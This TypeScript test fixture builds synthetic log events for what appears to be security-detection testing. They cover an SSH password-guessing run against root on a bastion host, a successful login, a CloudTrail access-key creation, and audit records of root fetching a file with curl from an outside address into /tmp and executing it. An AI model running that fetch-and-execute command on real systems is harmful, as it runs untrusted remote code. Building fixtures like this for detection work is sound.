import { IDS } from "./ids.ts";

type TestEvent = Readonly<Record<string, unknown>>;

const START = Date.parse("2026-03-02T08:58:00.000Z");

/** An id in the form of an event's own, told from the others by its first digits. */
function eventId(first: string): string {
  return `${first}-1610-11f1-8a2b-0242ac120002`;
}

function hostEvent(index: number, fields: TestEvent): TestEvent {
  const timestamp = START + index * 7000;
  return {
    _id: eventId(`e${index}0c6e10`),
    agent_id: IDS.bastion,
    event_type: "host",
    timestamp,
    event_time: timestamp,
    _insert_time: timestamp + 1500,
    host_metadata: { hostname: "bastion", server_name: "bastion" },
    ...fields,
  };
}

function failedLogin(index: number): TestEvent {
  return hostEvent(index, {
    comment: "SSHD authentication failed.",
    log: `sshd[4${index}10]: Failed password for root from 198.51.100.23 port 4${index}220 ssh2`,
    location: "/var/log/secure",
    user: "root",
    src_ip: "198.51.100.23",
    pid: 4010 + index * 100,
  });
}

/** Passwords are guessed, one is right, and a program is fetched and run. */
export const LOGIN_EVENTS: readonly TestEvent[] = [
  ...[0, 1, 2, 3, 4, 5].map((index) => failedLogin(index)),
  hostEvent(6, {
    comment: "SSHD authentication success.",
    log: "sshd[4710]: Accepted password for root from 198.51.100.23 port 46220 ssh2",
    location: "/var/log/secure",
    user: "root",
    src_ip: "198.51.100.23",
    pid: 4710,
  }),
  hostEvent(7, {
    event_type: "audit",
    type: "execve",
    syscall: "execve",
    user: "root",
    uid: 0,
    exe: "/usr/bin/curl",
    command: "curl",
    args: ["curl", "-o", "/tmp/upd", "http://203.0.113.66/upd"],
    arguments: "curl -o /tmp/upd http://203.0.113.66/upd",
    cwd: "/root",
    pid: 4722,
    ppid: 4711,
    exit: "0",
    success: true,
  }),
  hostEvent(8, {
    event_type: "audit",
    type: "execve",
    syscall: "execve",
    user: "root",
    uid: 0,
    exe: "/tmp/upd",
    command: "upd",
    args: ["/tmp/upd"],
    arguments: "/tmp/upd",
    cwd: "/root",
    pid: 4730,
    ppid: 4711,
    exit: "0",
    success: true,
  }),
];

/** One call to AWS. */
export const CLOUD_EVENTS: readonly TestEvent[] = [
  {
    _id: eventId("ea0c6e10"),
    eventID: eventId("ea0c6e10"),
    event_type: "cloudtrail",
    timestamp: Date.parse("2026-03-01T16:25:00.000Z"),
    eventName: "CreateAccessKey",
    eventSource: "iam.amazonaws.com",
    awsRegion: "eu-west-1",
    user: "mcastell",
    userType: "IAMUser",
    sourceIPAddress: "203.0.113.41",
    userAgent: "aws-cli/2.9.1",
    requestParameters: { userName: "backup" },
    userIdentity: {
      type: "IAMUser",
      arn: "arn:aws:iam::123456789012:user/mcastell",
      userName: "mcastell",
    },
  },
];
